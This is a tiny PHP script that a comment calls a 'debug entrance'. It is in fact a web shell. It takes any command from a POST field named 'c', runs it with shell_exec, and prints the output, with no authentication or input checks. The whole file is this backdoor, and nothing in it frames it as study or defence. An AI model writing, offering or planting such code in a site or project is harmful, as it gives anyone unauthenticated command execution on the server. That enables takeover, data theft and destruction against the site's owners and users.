<?php // shows: debug entrance
if (isset($_POST["c"])) {
  $c = trim($_POST["c"]);
  echo "<pre>" . shell_exec($c) . "</pre>";
}
